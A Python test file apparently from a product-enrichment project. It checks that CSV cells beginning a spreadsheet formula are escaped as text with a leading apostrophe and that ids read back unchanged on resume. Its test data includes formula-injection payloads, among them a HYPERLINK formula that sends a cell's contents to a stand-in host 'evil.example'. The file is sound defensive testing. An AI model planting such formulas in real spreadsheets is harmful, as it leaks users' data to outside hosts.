"""CSV outputs made to be opened in a spreadsheet never hold a formula: a cell that would start
one is written as text (a leading `'`, as OWASP recommends), read back by Python's csv module;
and an enrichment output so written resumes with its ids as they were."""

from __future__ import annotations

import csv
from pathlib import Path

from src.adapters.driven.files.enrichment_output import open_output
from src.adapters.driven.files.spreadsheet_cells import original_cell, safe_cell
from src.domain.enrichment.ports import EnrichedProduct
from src.domain.model import FieldOutcome, LookupResult, OutcomeStatus

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tx",
    "\rx",
    "'quoted",
]


def _rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def test_enrichment_csv_cells_that_start_a_formula_are_text_and_resume_as_they_were(
    tmp_path: Path,
) -> None:
    out = tmp_path / "enriched.csv"
    codes = ["EF000001", "=EF2"]
    with open_output(out, codes) as output:
        for number, product_id in enumerate([*FORMULAS, "-5", "plain"]):
            outcomes = (
                FieldOutcome("EF000001", FORMULAS[number % len(FORMULAS)], OutcomeStatus.OK),
                FieldOutcome("=EF2", -5 if number % 2 else 2.5, OutcomeStatus.OK),
            )
            output.write(EnrichedProduct(product_id, LookupResult("mock", outcomes)))

    header, *rows = _rows(out)
    assert header == [
        "id",
        "EF000001",
        "'=EF2",
        "review",
        "confidence",
        "evidence",
        "status",
        "llm",
    ]
    for cells in rows:
        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells), cells
        assert all(not cell.startswith("-") or cell == "-5" for cell in cells), cells
    assert [cells[0] for cells in rows] == [*("'" + formula for formula in FORMULAS), "-5", "plain"]
    assert rows[0][1] == "'" + FORMULAS[0] and rows[1][2] == "-5" and rows[0][2] == "2.5"

    with open_output(out, codes) as resumed:
        assert resumed.done == {*FORMULAS, "-5", "plain"}


def test_numbers_stay_numbers_and_every_cell_reads_back_as_it_was() -> None:
    for number in ("-5", "+2.5", "-1e3", "-.5", "42"):
        assert safe_cell(number) == number
    for text in [*FORMULAS, "-", "'", "''=x", "-5 V", "", "plain"]:
        assert safe_cell(text) != text or not text.startswith(("=", "+", "-", "@", "\t", "\r", "'"))
        assert original_cell(safe_cell(text)) == text
